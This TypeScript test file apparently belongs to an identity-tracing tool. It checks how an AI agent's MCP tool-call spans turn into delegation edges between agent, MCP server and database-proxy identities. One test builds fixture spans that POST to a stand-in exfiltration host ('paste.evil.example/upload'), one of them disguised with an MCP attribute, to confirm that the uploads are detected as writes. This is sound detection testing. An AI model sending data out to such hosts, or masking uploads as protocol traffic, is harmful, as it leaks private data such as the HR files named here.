/**
 * Identity hops as delegation edges of the caller (CONTRACT §3.1). Parallel steps are detection's:
 * test/detectors/trace-steps.test.ts.
 */
import { describe, expect, it } from 'vitest';
import { agentRoot, builder, G, http, sid, span, SpanKind, tool } from './fixtures.js';

const AGENT = 'spiffe://acme/agent/billing';
const MCP = { 'service.name': 'files-mcp', 'nhi.identity': 'files-mcp' };
const DB = { 'service.name': 'db-proxy', 'nhi.identity': 'db-proxy' };

/** The agent's MCP client call (id 2), the MCP server's SERVER span (id 3) and its HTTP DELETE (id 4). */
const mcpClient = () => span({ id: 2, parent: 1, kind: SpanKind.CLIENT, start: 1000, end: 1100, name: 'tools/call delete_file', attrs: { 'mcp.method.name': 'tools/call', 'gen_ai.tool.name': 'delete_file' } });
const mcpServer = () => span({ id: 3, parent: 2, kind: SpanKind.SERVER, start: 1010, end: 1090, resource: MCP, attrs: { 'mcp.method.name': 'tools/call' } });
const mcpDelete = () => http(4, 3, 'DELETE', 'https://storage.internal/f/1', { start: 1020, end: 1080, resource: MCP });

const summary = (a: { identity: string; kind: string; target: string; caller?: string | null }) => [a.identity, a.kind, a.target, a.caller ?? null];

describe('the hop between identities is a delegation of the caller', () => {
  it('caller and callee in one batch', () => {
    const { b } = builder();
    b.add([agentRoot({ end: 2000 }), mcpClient(), mcpServer(), mcpDelete()], 0);
    const out = b.take(G);
    expect(out.map(summary)).toEqual([
      [AGENT, 'tool', 'delete_file', null],
      [AGENT, 'delegation', 'files-mcp', null],
      ['files-mcp', 'http', 'storage.internal/f/{id}', AGENT],
    ]);
    const hop = out[1];
    expect(hop).toMatchObject({ spanId: sid(3), parentSpanId: sid(2), agent: 'billing', access: null, failed: false, peerGroup: 'billing-agent' });
  });

  it('callee exported first (its SERVER span is a root to the buffer): the edge comes with the caller', () => {
    const { b } = builder();
    b.add([mcpServer(), mcpDelete()], 0);
    expect(b.take(G).map(summary)).toEqual([['files-mcp', 'http', 'storage.internal/f/{id}', null]]);
    b.add([agentRoot({ end: 2000 }), mcpClient()], 10);
    expect(b.take(10).map(summary)).toEqual([
      [AGENT, 'tool', 'delete_file', null],
      [AGENT, 'delegation', 'files-mcp', null],
    ]);
  });

  it("a call made directly in the callee's entry span says so, in either order (it is made in the hop); a tool's call does not", () => {
    const first = builder().b;
    first.add([mcpServer(), mcpDelete()], 0);
    expect(first.take(G).map((a) => [a.target, a.inEntrySpan])).toEqual([['storage.internal/f/{id}', true]]);
    const together = builder().b;
    together.add([agentRoot({ end: 2000 }), mcpClient(), mcpServer(), mcpDelete(), tool(5, 1, 'lookup', { start: 1200, end: 1300 }), http(6, 5, 'GET', 'https://crm.internal/c/1', { start: 1210, end: 1290 })], 0);
    expect(together.take(G).map((a) => [a.kind, a.target, a.inEntrySpan])).toEqual([
      ['tool', 'delete_file', false],
      ['delegation', 'files-mcp', false],
      ['http', 'storage.internal/f/{id}', true],
      ['tool', 'lookup', false],
      ['http', 'crm.internal/c/{id}', false],
    ]);
  });

  it('caller exported first, the callee just after: the tool still takes what the callee did', () => {
    const { b } = builder();
    b.add([agentRoot({ end: 2000 }), mcpClient()], 0);
    expect(b.take(0)).toEqual([]); // a tool with no call yet waits a moment
    b.add([mcpServer(), mcpDelete()], 10);
    const out = b.take(G + 10);
    expect(out.find((a) => a.kind === 'tool')?.access).toBe('delete');
    expect(out.map(summary)).toEqual([
      [AGENT, 'tool', 'delete_file', null],
      [AGENT, 'delegation', 'files-mcp', null],
      ['files-mcp', 'http', 'storage.internal/f/{id}', AGENT],
    ]);
  });

  it('caller exported first, the callee later: the edge comes with the callee, and the class the tool missed (review38 H2)', () => {
    const { b } = builder();
    b.add([agentRoot({ end: 2000 }), mcpClient()], 0);
    expect(b.take(G)).toHaveLength(1);
    b.add([mcpServer(), mcpDelete()], G + 10);
    const late = b.take(G + 10);
    expect(late.map(summary)).toEqual([
      [AGENT, 'tool', 'delete_file', null],
      [AGENT, 'delegation', 'files-mcp', null],
      ['files-mcp', 'http', 'storage.internal/f/{id}', AGENT],
    ]);
    expect(late[0]).toMatchObject({ access: 'delete', accessBy: 'files-mcp', classOnly: true });
  });

  it("the MCP client's other requests: a resource read is a read of the resource, the rest protocol; one hop a request (review38 M1)", () => {
    const { b, ignored } = builder();
    const request = (id: number, method: string, attrs: Record<string, string> = {}) => [
      span({ id, parent: 1, kind: SpanKind.CLIENT, start: 1000 + id * 100, end: 1050 + id * 100, name: method, attrs: { 'mcp.method.name': method, ...attrs } }),
      http(id + 1, id, 'POST', 'http://mcp-files.internal:8080/mcp', { start: 1001 + id * 100, end: 1049 + id * 100 }),
      // The server's HTTP server span under the agent's POST, its MCP span under the agent's MCP span.
      span({ id: id + 2, parent: id + 1, kind: SpanKind.SERVER, start: 1002 + id * 100, end: 1048 + id * 100, resource: MCP, attrs: { 'http.request.method': 'POST' } }),
      span({ id: id + 3, parent: id, kind: SpanKind.SERVER, start: 1003 + id * 100, end: 1047 + id * 100, resource: MCP, attrs: { 'mcp.method.name': method } }),
    ];
    b.add([
      agentRoot({ end: 5000 }),
      ...request(10, 'initialize'),
      ...request(20, 'tools/list', { 'server.address': 'mcp-files.internal' }),
      ...request(30, 'resources/read', { 'mcp.resource.uri': 'file:///srv/hr/2024/salaries.csv?rev=3' }),
    ], 0);
    expect(b.take(G).map((a) => [a.identity, a.kind, a.target, a.access])).toEqual([
      [AGENT, 'delegation', 'files-mcp', null],
      [AGENT, 'delegation', 'files-mcp', null],
      [AGENT, 'tool', 'file:///srv/hr/{id}/*', 'read'],
      [AGENT, 'delegation', 'files-mcp', null],
    ]);
    expect(ignored.transport_span).toBe(3);
    // An MCP attribute on an HTTP span hides nothing; a protocol span naming its server carries only its HTTP to that host (review39 M1).
    const { b: b2 } = builder();
    b2.add([
      agentRoot({ end: 5000 }),
      http(2, 1, 'POST', 'https://paste.evil.example/upload', { attrs: { 'mcp.method.name': 'initialize' } }),
      span({ id: 3, parent: 1, kind: SpanKind.CLIENT, start: 1100, end: 1200, attrs: { 'mcp.method.name': 'ping', 'server.address': 'mcp-files.internal' } }),
      http(4, 3, 'POST', 'https://paste.evil.example/upload', { start: 1101, end: 1199 }),
    ], 0);
    expect(b2.take(G).map((a) => [a.kind, a.target, a.access])).toEqual([
      ['http', 'paste.evil.example/upload', 'write'],
      ['http', 'paste.evil.example/upload', 'write'],
    ]);
  });

  it('a chain of hops gives each caller its edge', () => {
    const { b } = builder();
    b.add([
      agentRoot({ end: 2000 }),
      mcpClient(),
      mcpServer(),
      span({ id: 5, parent: 3, kind: SpanKind.SERVER, start: 1030, end: 1040, resource: DB }),
      span({ id: 6, parent: 5, kind: SpanKind.CLIENT, start: 1031, end: 1039, resource: DB, attrs: { 'db.system.name': 'postgresql', 'db.operation.name': 'SELECT' } }),
    ], 0);
    const hops = b.take(G).filter((a) => a.kind === 'delegation').map(summary);
    expect(hops).toEqual([
      [AGENT, 'delegation', 'files-mcp', null],
      ['files-mcp', 'delegation', 'db-proxy', AGENT],
    ]);
  });

  it('no edge within one identity', () => {
    const { b } = builder();
    b.add([agentRoot(), tool(2, 1, 'x'), http(3, 2, 'GET', 'https://h/a')], 0);
    expect(b.take(G).some((a) => a.kind === 'delegation')).toBe(false);
  });
});
